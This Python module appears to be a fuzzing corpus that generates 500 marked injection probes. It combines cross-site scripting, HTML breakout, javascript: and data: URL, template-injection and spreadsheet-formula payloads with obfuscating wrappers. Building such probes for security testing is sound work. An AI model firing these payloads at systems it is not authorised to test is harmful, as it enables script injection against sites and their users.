"""Five hundred ways of writing something that somebody else's browser or spreadsheet might run.

Fifty families in ten dresses; each payload carries a mark of its own, `qzx` and its number.
"""

MARK = "qzx"
FAMILIES = [
    "<script>{0}</script>",
    "<ScRiPt src=//{0}></sCrIpT>",
    "<script\n>{0}</script >",
    "<scr<script>ipt><img onerror={0}></scr</script>ipt>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</option></select><img src={0} onerror=a()>",
    "--><script>{0}</script><!--",
    "]]><script>{0}</script>",
    "<img src={0} onerror=alert(1)>",
    "<img src='{0}' oNeRrOr='alert(1)'>",
    "<img/src={0}/onerror=alert(1)//",
    "<image href={0} onerror=alert(1)>",
    "<svg onload=alert(1) id={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin=a() id={0}>",
    "<svg><a xlink:href=javascript:{0}>",
    "<math><a href=javascript:{0}>x",
    "<body onload={0}>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<marquee onstart={0}>",
    "<video><source onerror={0}>",
    "<iframe src=javascript:{0}>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<base href=//{0}/>",
    "<link rel=stylesheet href=//{0}>",
    "<meta http-equiv=refresh content='0;{0}'>",
    "<form action=//{0}><button>",
    "<button formaction=javascript:{0}>",
    "<style>@import '//{0}'</style>",
    "<p style='background:url({0})'>",
    "<template><img onerror={0}></template>",
    "<noscript><p title='</noscript><img src={0} onerror=a()>'>",
    '" onmouseover="{0}" x="',
    "' onmouseover='{0}' x='",
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    "javascript:alert({0})",
    "data:text/html,<script>{0}</script>",
    "vbscript:msgbox({0})",
    "{{{{7*7}}}}{0}",
    "{{% include '{0}' %}}",
    "${{7*7}}{0}",
    "<%= 7*7 %>{0}",
    '=HYPERLINK("//{0}","x")',
    "@SUM(1+1)*{0}",
    "%(name)s %s {{0}} {0}",
]
DRESSES = [
    "{0}",
    " {0}",
    "Tea {0}",
    "{0} and biscuits",
    "\u202e{0}",
    "\u200b{0}\ufeff",
    "\t{0}",
    "&lt;{0}&#60;",
    "'{0}\"",
    "\\{0}\\u003c",
]


def all_payloads() -> list[str]:
    """Each under its own mark, the mark last known by its full stop: "qzx17." is not "qzx1."."""
    count = len(DRESSES)
    return [
        dress.replace("{0}", family.format(f"{MARK}{count * row + column}."))
        for row, family in enumerate(FAMILIES)
        for column, dress in enumerate(DRESSES)
    ]
